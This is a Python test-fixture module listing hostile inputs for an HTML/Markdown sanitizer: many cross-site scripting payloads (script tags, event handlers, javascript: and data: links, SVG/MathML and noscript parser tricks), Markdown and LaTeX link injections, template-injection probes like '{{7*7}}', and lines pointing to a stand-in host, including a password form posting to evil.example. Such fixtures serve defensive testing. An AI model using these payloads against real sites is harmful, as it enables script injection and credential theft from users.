"""Hostile texts: script in every dress that Markdown and HTML know, and code of template languages."""

_CALL = "alert(1)"
SCRIPTS = (
    f"<script>{_CALL}</script>",
    f"<ScRiPt >{_CALL}</sCrIpT>",
    f"<img src=x onerror={_CALL}>",
    f"<svg onload={_CALL}>",
    f"<svg><script>{_CALL}</script></svg>",
    f"<math><mtext><img src=x onerror={_CALL}></mtext></math>",
    f"<math><maction actiontype=statusline xlink:href='javascript:{_CALL}'>x</maction></math>",
    f"<math href='javascript:{_CALL}'>x</math>",
    "<iframe src='//evil.example'></iframe>",
    "<object data='//evil.example'></object>",
    "<embed src='//evil.example'>",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<a href='data:text/html,<script>{_CALL}</script>'>x</a>",
    "<form action='//evil.example'><input name=password></form>",
    "<button formaction='//evil.example'>x</button>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    f"<video><source onerror={_CALL}></video>",
    f"<details open ontoggle={_CALL}>",
    f"<!--><script>{_CALL}</script-->",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<p><svg><style><img src=x onerror={_CALL}>",
)
"""Each is run by a browser if it survives; an ordinary Markdown renderer lets most of them through."""

IN_MARKDOWN = (
    f"[x](javascript:{_CALL})",
    f"![x](x){{onerror={_CALL}}}",
    f"<javascript:{_CALL}>",
    f"[x]: javascript:{_CALL}",
    f"$\\href{{javascript:{_CALL}}}{{x}}$",
    f"$\\text{{<script>{_CALL}</script>}}$",
    f"$\\text{{</mtext></math><img src=x onerror={_CALL}>}}$",
)

PROBES = (
    "{{7*7}}",
    "{% print(7*7) %}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{0.__class__}",
    "%(x)s",
    "{config}",
    "$x{7*7}y",
)
"""What a template language would run; 49 on a page means that one did."""
